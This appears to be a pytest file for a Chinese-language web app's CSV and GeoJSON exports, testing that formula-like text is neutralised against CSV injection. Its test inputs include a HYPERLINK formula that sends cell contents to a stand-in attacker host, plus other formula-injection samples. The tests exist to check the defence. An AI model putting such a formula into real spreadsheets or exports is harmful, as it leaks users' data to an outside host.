"""CSV for Excel: formula-like text neutralised (OWASP CSV injection), Chinese column names
and values by default, raw codes with --codes / ?codes=1; GeoJSON keeps the codes."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pandas as pd
import pytest

from tests.imagery.images import exif_bytes, jpeg
from tests.scenario import Played
from tests.web.cli import run
from tests.web.client import client_for, headers, inside_town, sign_in
from web.accounts.demo import DEMO_TOWN
from web.services.excel_csv import CsvStyle, excel_table, neutralise

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
NOTES = ["=1+1", HYPERLINK, "+86 576 8888", "@SUM(A1:A2)", "\t=1", "-2 是温度", "河边堆放垃圾"]
SHANGHAI = ZoneInfo("Asia/Shanghai")


def _rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), (HYPERLINK, "'" + HYPERLINK), ("+1", "'+1"), ("-1", "'-1"),
    ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=1", "a=1"), ("", ""),
    (-3, -3), (-2.5, -2.5), (None, None)])
def test_only_text_that_would_run_is_neutralised(value: object, cell: object) -> None:
    assert neutralise(value) == cell


def test_numeric_columns_stay_numbers_even_when_negative() -> None:
    table = pd.DataFrame({"id": [1, 2], "lon": [-0.5, 121.4], "note": ["-0.5", "ok"]})
    out = excel_table(table, "photos", CsvStyle(tz=SHANGHAI, codes=True))
    assert out["lon"].tolist() == [-0.5, 121.4] and out["id"].tolist() == [1, 2]
    assert out["note"].tolist() == ["'-0.5", "ok"]


def test_photo_notes_are_exported_neutralised(fresh_demo_url: str, tmp_path: Path) -> None:
    client = client_for(fresh_demo_url, now=datetime(2022, 6, 1, 4, 0, tzinfo=UTC))
    assert sign_in(client, "officer").status_code == 303
    lon, lat = inside_town(fresh_demo_url, DEMO_TOWN)
    for k, note in enumerate(NOTES):
        path = jpeg(tmp_path / f"IMG_{k}.JPG", seed=700 + k,
                    exif=exif_bytes(lon=lon + k * 1e-4, lat=lat))
        with path.open("rb") as f:
            stored = client.post("/api/photos", headers=headers(client), data={"note": note},
                                 files={"file": (path.name, f, "image/jpeg")})
        assert stored.status_code == 200, stored.text
    out = tmp_path / "photos.csv"
    result = run(fresh_demo_url, "export", "photos", "--format", "csv", "--out", str(out))
    assert result.exit_code == 0, result.output
    rows = _rows(out.read_bytes())
    expected = ["'=1+1", "'" + HYPERLINK, "'+86 576 8888", "'@SUM(A1:A2)", "'\t=1",
                "'-2 是温度", "河边堆放垃圾"]
    assert [r["备注"] for r in rows] == expected
    assert {r["类型"] for r in rows} == {"现场照片"}
    assert rows[0]["拍摄时间"] == "2022-05-01 10:00:00"  # +08:00 in the EXIF, shown local
    assert all(float(r["经度"]) > 121 for r in rows)
    download = client.get("/api/exports/photos", params={"format": "csv", "codes": "1"})
    assert download.status_code == 200
    machine = _rows(download.content)
    assert [r["note"] for r in machine] == expected
    assert {r["kind"] for r in machine} == {"field"}
    assert machine[0]["taken_at"] == "2022-05-01T02:00:00+00:00"


def test_cases_in_chinese_by_default_and_raw_with_codes(played: Played, tmp_path: Path) -> None:
    people, machines = tmp_path / "cases.csv", tmp_path / "cases-codes.csv"
    for out, extra in ((people, ()), (machines, ("--codes",))):
        result = run(played.env["url"], "export", "cases", "--format", "csv", "--out",
                     str(out), *extra, LOOKBACK_DATA_DIR=played.env["data"])
        assert result.exit_code == 0, result.output
    named, coded = _rows(people.read_bytes()), _rows(machines.read_bytes())
    assert list(named[0])[:4] == ["问题编号", "问题来源", "督察轮次", "交办批次"]
    assert list(coded[0])[:4] == ["reference", "source", "inspection", "batch"]
    by_ref = {r["问题编号"]: r for r in named}
    for raw in coded:
        row = by_ref[raw["reference"]]
        assert row["问题来源"] == {"inspection_feedback": "督察反馈问题", "petition": "信访件",
                               "patrol": "网格巡查", "lookback": "回头看发现"}[raw["source"]]
        assert (raw["key_case"], row["重点问题"]) in (("True", "是"), ("False", "否"))
    assert {r["状态"] for r in named} >= {"已销号", "整改中"}
    assert {r["state"] for r in coded} >= {"closed", "rectifying"}


def test_rounds_csv_for_people_and_the_api_in_the_users_language(played: Played) -> None:
    client = client_for(played.env["url"], data_dir=played.env["data"])
    assert sign_in(client, "leader").status_code == 303
    rows = _rows(client.get("/api/exports/lookback_rounds", params={"format": "csv"}).content)
    assert {"通过", "反弹", "逾期"} <= {r["状态"] for r in rows}
    assert all(r["复核开始时间"].endswith(" 00:00:00") for r in rows)  # midnight, local
    english = _rows(client.get("/api/exports/lookback_rounds",
                               params={"format": "csv", "lang": "en"}).content)
    assert {"passed", "recurred", "overdue"} <= {r["State"] for r in english}
    coded = _rows(client.get("/api/exports/lookback_rounds",
                             params={"format": "csv", "codes": "1"}).content)
    assert {r["state"] for r in coded} >= {"passed", "recurred", "overdue"}
    assert all(r["window_start"].endswith("T16:00:00+00:00") for r in coded)


def test_geojson_keeps_the_raw_codes(played: Played) -> None:
    client = client_for(played.env["url"], data_dir=played.env["data"])
    assert sign_in(client, "leader").status_code == 303
    download = client.get("/api/exports/cases", params={"format": "geojson"})
    properties = [f["properties"] for f in json.loads(download.content)["features"]]
    assert {p["source"] for p in properties} == {"inspection_feedback", "petition", "patrol"}
    assert {type(p["key_case"]) for p in properties} == {bool}
